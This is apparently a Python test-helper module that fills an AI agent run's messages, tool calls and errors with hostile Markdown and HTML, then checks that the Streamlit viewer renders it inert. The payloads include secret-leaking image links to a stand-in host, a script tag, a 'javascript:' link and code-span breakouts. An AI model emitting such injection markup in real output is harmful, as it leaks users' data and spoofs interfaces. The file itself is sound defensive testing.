"""Hostile text wherever a run holds text, and how Streamlit's renderer would read what a page shows."""

from __future__ import annotations

import json
import re
import string
from collections.abc import Iterator
from typing import Any

from streamlit.testing.v1 import AppTest

from agentcore.messages import AssistantMessage, SystemMessage, ToolCall, ToolMessage, Usage, UserMessage
from agentcore.providers.base import WireExchange
from agentcore.run import Run, RunConfig
from agentcore.steps import StepRecord, ToolRun

EVIL = "evil.invalid"


def payload(tag: str) -> str:
    """Everything that would fetch, link, run or restyle, each address tagged with where it was put."""
    return (
        f"![x](http://{EVIL}/{tag}-img?d=secret) <img src=http://{EVIL}/{tag}-html> "
        f"<script>window.pwned = '{tag}'</script> [click](http://{EVIL}/{tag}-link) "
        f"<http://{EVIL}/{tag}-auto> www.{EVIL}/{tag}-www :red[SPOOF] :material/home: $LATEX$"
    )


def breakout(tag: str) -> str:
    """Text that ends the code span or the HTML element it is put in, then carries the payload."""
    return f"`</code>``{payload(tag)}`"


NAME = f"get{breakout('name')}"


CALL_1 = f"call_1{breakout('id')}"


CALL_2 = f"call_2{breakout('id2')}"


TABLE = f"\n\n| a | b |\n|---|---|\n| `x|![t](http://{EVIL}/cell-img)` | [c](http://{EVIL}/cell-link) |"


def hostile_run(*, pending: bool = False) -> Run:
    """A finished run (stopped by a failed call) with hostile text wherever a run holds text.

    `pending` ends it at the assistant's tool calls, so the playground shows them for a decision.
    """
    call_1 = ToolCall(id=CALL_1, name=NAME, arguments={"q": breakout("args")})
    call_2 = ToolCall(id=CALL_2, name=NAME, raw_arguments=breakout("raw"))
    messages = [
        SystemMessage(content=payload("system")),
        UserMessage(content=payload("user")),
        AssistantMessage(content=payload("answer") + TABLE, tool_calls=(call_1, call_2)),
        ToolMessage(tool_call_id=CALL_1, name=NAME, content=payload("result")),
        ToolMessage(tool_call_id=CALL_2, name=NAME, content=payload("tool-error"), is_error=True),
        AssistantMessage(content=payload("final")),
    ]
    wire = WireExchange(
        url=f"http://{EVIL}/wire?d=secret{breakout('url')}",
        request={"messages": [payload("request")]},
        status=200,
        response={"content": payload("response")},
    )
    runs = [
        ToolRun(tool_call_id=CALL_1, name=NAME, duration_ms=1.0, is_error=False),
        ToolRun(tool_call_id=CALL_2, name=NAME, duration_ms=1.0, is_error=True, error=payload("tool-run")),
    ]
    steps = [
        StepRecord(index=1, usage=Usage(input_tokens=40, output_tokens=9), message_count=2, tool_runs=runs, wire=wire),
        StepRecord(index=2, usage=Usage(input_tokens=90, output_tokens=7), message_count=5, wire=wire),
    ]
    config = RunConfig(provider="scripted", model=f"model{breakout('model')}", max_steps=4)
    if pending:
        return Run(
            id=f"pending{breakout('pending-id')}", title=payload("pending"), config=config, messages=messages[:3],
            steps=steps[:1],
        )  # fmt: skip
    return Run(
        id=f"run{breakout('run-id')}", title=payload("title"), config=config, messages=messages, steps=steps,
        stop_reason="error", error=payload("provider-error") + TABLE,
    )  # fmt: skip


def live(md: str, *, keep_escapes: bool = False, code: str = " ") -> str:
    """The Markdown outside its code spans, with escaped characters blanked: what the renderer acts on.

    `keep_escapes` keeps escaped characters with their backslash; `code` is what a code span becomes.
    """
    out: list[str] = []
    i = 0
    while i < len(md):
        if md[i] == "\\" and md[i + 1 : i + 2] in string.punctuation:
            out.append(md[i : i + 2] if keep_escapes else " ")
            i += 2
        elif md[i] == "`":
            run = re.match(r"`+", md[i:])[0]  # type: ignore[index]
            closer = re.compile(rf"(?<!`){run}(?!`)").search(md, i + len(run))
            out.append(code if closer else run)
            i = closer.end() if closer else i + len(run)
        else:
            out.append(md[i])
            i += 1
    return "".join(out)


def labels(md: str) -> list[str]:
    """The labels of the page's own directives (`:gray[...]`), a code span in one shown as `\x01`.

    Streamlit reads a label's text again, so escapes in it do not hold: only the app's words may be there.
    """
    return re.findall(r"(?<!\\):[A-Za-z][\w-]*\[([^\]]*)", live(md, keep_escapes=True, code="\x01"))


def dangers(md: str) -> list[str]:
    """What in this Markdown would fetch, link, run or restyle: each finding names itself."""
    text = live(md)
    found = [
        f"{what}: {m[0]!r}"
        for what, pattern in (
            ("an address outside code", rf"{re.escape(EVIL)}"),
            ("HTML or an autolink", r"<[A-Za-z/!?]"),
            ("a link or an image", r"\]\(|\]\["),
            ("a directive", r":red\[SPOOF"),
            ("an icon or the logo", r":material[/_]home|:streamlit:"),
            ("LaTeX", r"\$LATEX\$"),
        )
        for m in re.finditer(pattern, text)
    ]
    found += [f"text from the run in a directive's label: {label!r}" for label in labels(md) if re.search(
        rf"[\x01\\]|{re.escape(EVIL)}|SPOOF|LATEX", label
    )]  # fmt: skip
    return found


MARKDOWN_FIELDS = ("body", "label", "help", "text", "placeholder")


PLAIN_TYPES = {"text", "code", "json", "html", "arrow_data_frame", "dataframe", "selectbox", "multiselect"}


def markdown_of(at: AppTest) -> Iterator[tuple[str, str]]:
    """(where, Markdown) for every piece of Markdown the page emits: bodies, alerts, headings, labels, help."""

    def walk(node: Any) -> Iterator[tuple[str, str]]:
        kind = getattr(node, "type", type(node).__name__)
        proto = getattr(node, "proto", None)
        if proto is not None and kind not in PLAIN_TYPES and hasattr(proto, "ListFields"):
            for field, value in proto.ListFields():
                if field.name in MARKDOWN_FIELDS and isinstance(value, str):
                    yield f"{kind}.{field.name}", value
                if kind == "radio" and field.name in ("options", "captions"):
                    yield from ((f"radio.{field.name}", v) for v in value)
        if kind in PLAIN_TYPES and hasattr(proto, "label"):
            yield f"{kind}.label", proto.label
        for child in getattr(node, "children", {}).values():
            yield from walk(child)

    yield from walk(at._tree)


def strings(data: Any) -> Iterator[str]:
    """Every string in JSON data."""
    if isinstance(data, str):
        yield data
    elif isinstance(data, dict | list):
        for item in data.values() if isinstance(data, dict) else data:
            yield from strings(item)


def assert_charts_inert(at: AppTest) -> None:
    """The Plotly charts' texts hold no markup (Plotly reads `<a href>`), the DOT and the HTML no hostile text."""
    for node in at.get("plotly_chart"):
        marked = [text for text in strings(json.loads(node.proto.spec)) if re.search(r"<[A-Za-z/]", text)]
        assert not marked, marked
    for text in [node.proto.spec for node in at.get("graphviz_chart")] + [n.proto.body for n in at.get("html")]:
        assert EVIL not in text, text[:300]


def assert_inert(at: AppTest, *, shows: str) -> None:
    """No Markdown on the page is live, no chart or HTML holds hostile markup, and `shows` is on the page."""
    assert not at.exception, at.exception
    pieces = list(markdown_of(at))
    problems = [(where, md[:160], found) for where, md in pieces if (found := dangers(md))]
    assert not problems, "\n".join(map(str, problems))
    assert_charts_inert(at)
    assert any(shows in md for _, md in pieces), f"{shows!r} is not shown on the page"


FRAGMENTS = [
    "![i](http://evil.invalid/i)", "[l](http://evil.invalid/l)", "<img src=x>", "<http://evil.invalid/a>",
    "http://evil.invalid/b", "www.evil.invalid", "me@evil.invalid", "`", "``", "```", "~~~", "\\", "[", "]",
    "(", ")", ":", ":red[SPOOF]", ":material/home:", "$LATEX$", "|", "\n", "\n\n", "    ", "# ", "> ", "- ",
    "1. ", "[r]: http://evil.invalid/r", "&#60;img&#62;", "a", " ", ":material_home:", ":streamlit:", "![x][r]",
    "[j](javascript:window.pwned=1)", "<!-- c -->", "&#58;material_home:", "\r\n", "{", "}",
]  # fmt: skip
